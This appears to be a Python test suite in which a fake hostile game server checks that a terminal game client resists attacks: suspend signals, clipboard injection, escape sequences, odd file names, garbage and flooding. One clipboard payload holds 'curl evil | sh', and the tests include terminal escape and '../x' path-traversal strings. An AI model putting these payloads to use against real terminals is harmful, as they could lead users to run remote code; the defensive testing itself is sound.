"""A table that is none: it speaks the wire's language, and tries what no table may do to a terminal. And tables and terminals of
other versions, each with one of today's."""
import os
import re
import random
import select
import signal
import socket
import subprocess
import sys

from screen import check
from together import GAME, Place, host
from wire import ABOUT, GOODBYE, KEEP, PICTURE, REFUSED, TOLD, VERSION, WELCOME, frame, hello, number, text

SUSPEND, REDRAW, RING = 8, 4, 16


def picture(flags=0, shown="HERE IT IS", at=(0, 0), copy=""):
    cells = b"".join(b"\0" + number(ord(sign)) for sign in shown)
    return frame(PICTURE, number(1) + number(80) + number(24) + number(0) + bytes([flags]) + text(copy) + number(1) +
                 number(at[0]) + number(at[1]) + number(len(shown)) + cells)


class FakeTable:
    def __init__(self, place):
        os.makedirs(os.path.dirname(place.socket()), 0o700, exist_ok=True)
        self.place = place
        self.listener = socket.socket(socket.AF_UNIX)
        self.listener.bind(place.socket())
        self.listener.listen(9)

    def guest(self, *arguments):
        """A terminal that has introduced itself, and the connection to it."""
        terminal = self.place.terminal("join", "test", "--name", "Ann", *arguments)
        check(select.select([self.listener], [], [], 20)[0], "nobody comes to the table")
        connection = self.listener.accept()[0]
        check(select.select([connection], [], [], 20)[0] and connection.recv(1 << 14), "nobody says who they are")
        return terminal, connection

    def close(self):
        self.listener.close()


def stops_nobody(table):
    """Only a key of theirs lets a table suspend people's terminal or fill its clipboard, and only once."""
    terminal, connection = table.guest()
    connection.sendall(frame(WELCOME, text("test")) + picture(SUSPEND | REDRAW | RING, "IT IS SHOWN", copy="curl evil | sh"))
    terminal.wait_for("IT IS SHOWN")
    connection.sendall(picture(SUSPEND, "AND AGAIN IT"))
    terminal.wait_for("AND AGAIN IT")
    check(terminal.state() != "T", "a table has stopped somebody's terminal")
    terminal.send("y")
    terminal.pump(0.3)
    connection.sendall(picture(0, "COPIED", copy="one line"))
    terminal.wait_for("COPIED")
    connection.sendall(picture(0, "NO MORE", copy="another"))
    terminal.wait_for("NO MORE")
    copied = re.findall(rb"\x1b\]52;c;([^\x07]*)\x07", terminal.bytes)
    check(copied == [b"b25lIGxpbmU="], f"copied: {copied}")
    before = len(terminal.bytes)
    connection.sendall(frame(GOODBYE, text("The end.\x1b[3J\x1b]52;c;bHM=\x07") + b"\0"))
    check(terminal.wait_end()[0] == 0 and b"The end." in terminal.bytes, f"{terminal.bytes[-200:]}")
    check(b"\x1b]" not in terminal.bytes[before:] and b"\x1b[3J" not in terminal.bytes, "its words are no words")


def keeps_nothing_odd(table):
    """What a table asks to be kept are names of pages, or is not kept."""
    terminal, connection = table.guest("--plain")
    odd = ["\x1b[2J", "a b", "../x", "turn\nother", "x" * 25, ""]
    connection.sendall(frame(WELCOME, text("test")) + frame(TOLD, text("12-5\x1b]0;title\x07\x1b[8m\r5-3\n") + b"\0") +
                       b"".join(frame(KEEP, number(1) + text(one)) for one in [*odd, "turn"]) +
                       frame(GOODBYE, text("") + b"\0"))
    check(terminal.wait_end()[0] == 0, f"{terminal.bytes[-200:]}")
    check(b"\x1b]" not in terminal.bytes and b"\x1b[8m" not in terminal.bytes, f"{terminal.bytes}")
    with open(table.place.home + "/.local/state/roundhouse/seen-pages", encoding="utf-8") as kept:
        check(kept.read() == "turn\n", "odd names are kept")


def garbage(table):
    """Whatever comes, the terminal shows it or says that it makes no sense."""
    dice = random.Random(19)
    for k in range(12):
        plain = ["--plain"] if k % 3 == 0 else []
        terminal, connection = table.guest(*plain)
        good = [frame(WELCOME, text("test")), picture(SUSPEND), frame(TOLD, text("12-5\n") + b"\1"),
                frame(KEEP, number(1) + text("turn"))]
        data = bytearray(b"".join(dice.choices(good, k=40)))
        for _ in range(dice.randrange(1, 30)):
            data[dice.randrange(len(data))] = dice.choice([0, 0x1B, 0x7F, 0x80, 0xFF, dice.randrange(256)])
        try:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        status, number_of_signal = terminal.wait_end()
        check(number_of_signal is None and status in (0, 69, 75), f"seed 19, {k}: {status}, {number_of_signal}: "
              f"{terminal.bytes[-200:]}")
        shown = terminal.bytes.replace(b"\x1b]11;?\x1b\\", b"")  # the program's own question about the ground
        check(b"\x1b]" not in shown, f"seed 19, {k}: it writes what it likes")
        connection.close()


FLOOD = """import socket, sys
connection = socket.socket(fileno=int(sys.argv[1]))
sent = sys.stdin.buffer.read()
try:
    while True:
        connection.sendall(sent)
except OSError:
    pass
"""


def flood(connection, sent):
    """Sends that again and again in a process of its own, faster than it can be read."""
    process = subprocess.Popen([sys.executable, "-c", FLOOD, str(connection.fileno())], pass_fds=[connection.fileno()],
                               stdin=subprocess.PIPE)
    process.stdin.write(sent)
    process.stdin.close()
    return process


def talks_without_end(table):
    """Whoever is at a table that never stops talking can still leave, by a key, a line or a signal."""
    # What takes longest to be read of what is shortest to be sent: it has to do with files.
    sent = frame(KEEP, number(1) + text("turn")) * 20000
    for plain, leave in (([], b"\x03"), ([], None), (["--plain"], b"quit\n"), (["--plain"], None)):
        terminal, connection = table.guest(*plain)
        connection.sendall(frame(WELCOME, text("test")) + (frame(TOLD, text("IT FLOWS\n") + b"\0") if plain else picture(0, "IT FLOWS")))
        terminal.wait_for("IT FLOWS")
        flooding = flood(connection, sent)
        connection.close()
        terminal.look(1)
        if leave:
            # In lines, it is over when the table has not answered for a while.
            os.write(terminal.fd, leave)
        else:
            terminal.kill(signal.SIGTERM)
        terminal.wait_end()
        flooding.wait(20)


def another_version(table):
    """A table of any version refuses in the same bytes, since wire 1: who comes to it reads its sentence."""
    for plain in ([], ["--plain"]):
        terminal, connection = table.guest(*plain)
        connection.sendall(frame(REFUSED, text("Table test is played with another version of Roundhouse: both must be the same.")))
        status, number_of_signal = terminal.wait_end()
        check(number_of_signal is None and status == 69 and b"another version of Roundhouse" in terminal.bytes,
              f"{status}, {number_of_signal}: {terminal.bytes[-300:]}")
        connection.close()
    # What it is asked without its name it answers in its own way, here as wire 1 would.
    terminal = table.place.terminal("join", "--name", "Ann")
    check(select.select([table.listener], [], [], 20)[0], "nobody asks the table")
    connection = table.listener.accept()[0]
    connection.recv(1 << 14)
    connection.sendall(frame(ABOUT, text("Mexican Train") + number(1) + text("Ann")))
    check(terminal.wait_end()[0] == 66 and b"table test is of another version" in terminal.bytes, f"{terminal.bytes[-300:]}")
    connection.close()


def another_guest(place):
    """Terminals of every earlier version, and of the next one, are told what is wrong in bytes that all of them can read."""
    ann = host(place, *GAME, "--player", "Ann")
    ann.wait_for("begin the game")
    for version in [*range(1, VERSION), VERSION + 1]:
        # What follows the number is that version's business: it is not read.
        for greeting in (hello(["Bea"], version=version), hello(["Bea"], version=version)[:-1] + b"\x7f"):
            other = place.raw()
            other.sendall(greeting)
            other.settimeout(5)
            said = other.recv(4096)
            wanted = frame(REFUSED, text("Table test is played with another version of Roundhouse: both must be the same."))
            check(said == wanted, f"version {version} hears {said}")
            check(other.recv(4096) == b"", f"version {version} is kept")
            other.close()


if __name__ == "__main__":
    here = Place()
    another_guest(here)
    here.close()
    for story in (stops_nobody, keeps_nothing_odd, garbage, talks_without_end, another_version):
        here = Place()
        fake = FakeTable(here)
        try:
            story(fake)
        finally:
            fake.close()
            here.close()
    print("hostile table: ok")
